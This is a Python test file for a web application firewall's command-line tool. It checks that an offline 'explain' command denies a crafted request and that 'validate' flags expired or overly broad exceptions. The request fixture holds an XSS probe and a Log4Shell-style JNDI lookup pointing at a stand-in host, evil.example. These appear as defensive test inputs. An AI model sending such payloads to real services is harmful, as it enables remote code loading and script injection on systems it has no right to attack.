"""The WAF through the CLI: `explain` gives the gateway's answer offline with rule,
family and location; `validate` reports expired exceptions."""

from __future__ import annotations

import json

from tests.conftest import run_wardgate


def test_explain_shows_the_waf_decision(tmp_path):
    request = tmp_path / "request.yaml"
    request.write_text(
        'method: GET\npath: "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"\n'
        'headers:\n  X-Api-Version: "${jndi:ldap://evil.example/a}"\n'
    )
    result = run_wardgate("explain", "--request", str(request))
    assert result.returncode == 1, result.stderr
    decision = json.loads(result.stdout)
    assert (decision["decision"], decision["status"], decision["filter"]) == ("deny", 403, "waf")
    locations = {v["location"] for v in decision["violations"]}
    assert {"query:q", "header:x-api-version"} <= locations
    assert "evil.example" not in result.stdout


def test_validate_reports_expired_exceptions(tmp_path):
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "waf:\n  exceptions:\n    - families: [xss]\n      locations: ['query:q']\n"
        "      reason: legacy editor\n      expiresAt: '2020-01-01T00:00:00Z'\n"
    )
    result = run_wardgate("validate", str(policy))
    assert result.returncode == 0, result.stdout
    assert "waf: exceptions[0] expired" in result.stdout
    broad = tmp_path / "broad.yaml"
    broad.write_text("waf:\n  exceptions:\n    - families: [xss]\n      reason: everywhere\n")
    result = run_wardgate("validate", str(broad))
    assert result.returncode == 1
    assert "waf.exceptions[0]" in result.stdout and "locations or paths" in result.stdout
